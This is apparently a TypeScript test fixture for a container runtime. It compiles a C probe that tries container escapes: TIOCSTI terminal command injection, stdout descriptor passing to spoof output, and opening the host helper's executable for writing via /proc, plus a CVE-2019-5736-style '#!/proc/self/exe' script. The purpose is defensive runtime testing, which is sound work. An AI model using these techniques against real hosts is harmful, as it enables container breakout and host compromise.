/**
 * A hostile container's tools for the runtime tests: one small static C probe (built here with gcc,
 * copied into a busybox root as /probe) that attacks through the runtime's own plumbing, and a
 * script that re-runs whatever executes it (/innocent: "#!/proc/self/exe launcher").
 *
 *   probe tty MARKER  types "touch MARKER" with TIOCSTI into every terminal it can reach
 *   probe send        passes its stdout over an abstract unix socket, then exits
 *   probe recv        receives a stdout there and writes into it until a write fails
 *   probe grab        finds a process whose executable is skiff-helper and tries to write to it
 */
import { execFileSync } from 'node:child_process';
import { chmod, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { makeBusyboxRootfs, requireRootAndBusybox } from './runtime-containers-fixture.js';

const PROBE_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static socklen_t leak_addr(struct sockaddr_un *a) {
  memset(a, 0, sizeof *a);
  a->sun_family = AF_UNIX;
  memcpy(a->sun_path, "\0skiff-leak", 11);
  return offsetof(struct sockaddr_un, sun_path) + 11;
}

/* types "touch MARKER" into whatever terminal it can reach */
static int tty_probe(const char *marker) {
  char cmd[512];
  snprintf(cmd, sizeof cmd, "touch %s\n", marker);
  int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR)};
  if (fds[3] < 0) printf("/dev/tty: %s\n", strerror(errno));
  for (int i = 0; i < 4; i++) {
    if (fds[i] < 0) continue;
    printf("fd %d: %s\n", fds[i], isatty(fds[i]) ? "a terminal" : "not a terminal");
    const char *p = cmd;
    for (; *p; p++)
      if (ioctl(fds[i], TIOCSTI, p) < 0) break;
    if (*p) printf("TIOCSTI fd %d: %s\n", fds[i], strerror(errno));
    else printf("TIOCSTI fd %d: injected\n", fds[i]);
  }
  printf("session leader: %s\n", getsid(0) == getpid() ? "yes" : "no");
  return 7;
}

/* passes its stdout to whoever listens on the abstract socket, then exits */
static int send_stdout(void) {
  struct sockaddr_un a;
  socklen_t len = leak_addr(&a);
  for (int tries = 0; tries < 100; tries++) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&a, len) == 0) {
      char c = 'x', cb[CMSG_SPACE(sizeof(int))];
      struct iovec io = {&c, 1};
      struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cb, .msg_controllen = sizeof cb};
      struct cmsghdr *h = CMSG_FIRSTHDR(&m);
      h->cmsg_level = SOL_SOCKET;
      h->cmsg_type = SCM_RIGHTS;
      h->cmsg_len = CMSG_LEN(sizeof(int));
      int fd = 1;
      memcpy(CMSG_DATA(h), &fd, sizeof fd);
      if (sendmsg(s, &m, 0) != 1) return 2;
      fprintf(stderr, "A: passed my stdout away\n");
      return 0;
    }
    close(s);
    usleep(50000);
  }
  return 1;
}

/* receives a stdout and writes into it until the write fails */
static int recv_stdout(void) {
  signal(SIGPIPE, SIG_IGN);
  struct sockaddr_un a;
  socklen_t len = leak_addr(&a);
  int l = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(l, (struct sockaddr *)&a, len) < 0 || listen(l, 1) < 0) return 1;
  fprintf(stderr, "B: listening\n");
  int s = accept(l, NULL, NULL);
  char c, cb[CMSG_SPACE(sizeof(int))];
  struct iovec io = {&c, 1};
  struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cb, .msg_controllen = sizeof cb};
  if (recvmsg(s, &m, 0) != 1 || !CMSG_FIRSTHDR(&m)) return 1;
  int fd;
  memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
  fprintf(stderr, "B: holding A's stdout\n");
  for (int i = 0; i < 400; i++) {
    if (dprintf(fd, "spoofed line %d from B\n", i) < 0) {
      fprintf(stderr, "B: write: %s\n", strerror(errno));
      return 0;
    }
    usleep(25000);
  }
  fprintf(stderr, "B: still writing after 10 s\n");
  return 1;
}

/* finds a process whose executable is skiff-helper and tries to write to that executable */
static int grab(void) {
  for (int round = 0; round < 4000; round++) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(d))) {
      if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
      char p[64], link[512];
      snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
      ssize_t n = readlink(p, link, sizeof link - 1);
      if (n < 0) continue;
      link[n] = 0;
      if (!strstr(link, "skiff-helper")) continue;
      printf("exe: %s\n", link);
      int fd = open(p, O_RDONLY);
      if (fd < 0) {
        printf("open: %s\n", strerror(errno));
        return 0;
      }
      char first;
      if (pread(fd, &first, 1, 0) != 1) first = 0x7f;
      char self[64];
      snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
      int w = open(self, O_WRONLY);
      if (w < 0) {
        printf("open for writing: %s\n", strerror(errno));
        return 0;
      }
      /* the byte that is there already: a write that got through changes nothing */
      if (pwrite(w, &first, 1, 0) != 1) printf("write: %s\n", strerror(errno));
      else printf("write: WRITTEN\n");
      return 0;
    }
    closedir(d);
    usleep(5000);
  }
  printf("not seen\n");
  return 1;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && !strcmp(argv[1], "tty")) return tty_probe(argv[2]);
  if (argc == 2 && !strcmp(argv[1], "send")) return send_stdout();
  if (argc == 2 && !strcmp(argv[1], "recv")) return recv_stdout();
  if (argc == 2 && !strcmp(argv[1], "grab")) return grab();
  fprintf(stderr, "usage: probe tty MARKER | send | recv | grab\n");
  return 2;
}
`;

/** Fails (never skips) without root, busybox-static, gcc or the other tools named, saying how to get them. */
export function requireHostileTools(tools: [string, string][] = []): void {
  requireRootAndBusybox();
  for (const [tool, pkg] of [['gcc', 'gcc libc6-dev'], ...tools]) {
    try {
      execFileSync('sh', ['-c', `command -v ${tool}`], { stdio: 'ignore' });
    } catch {
      throw new Error(`these tests need ${tool}: apt-get install -y ${pkg}`);
    }
  }
}

/** A busybox root at `dir` with /probe and /innocent. */
export async function makeHostileRootfs(dir: string, work: string): Promise<string> {
  const rootfs = await makeBusyboxRootfs(dir);
  await writeFile(join(work, 'probe.c'), PROBE_C);
  execFileSync('gcc', ['-static', '-O2', '-o', join(rootfs, 'probe'), join(work, 'probe.c')]);
  // an image file that re-runs whatever runs it: the helper, when the helper exec's it (CVE-2019-5736)
  await writeFile(join(rootfs, 'innocent'), '#!/proc/self/exe launcher\n');
  await chmod(join(rootfs, 'innocent'), 0o755);
  return rootfs;
}
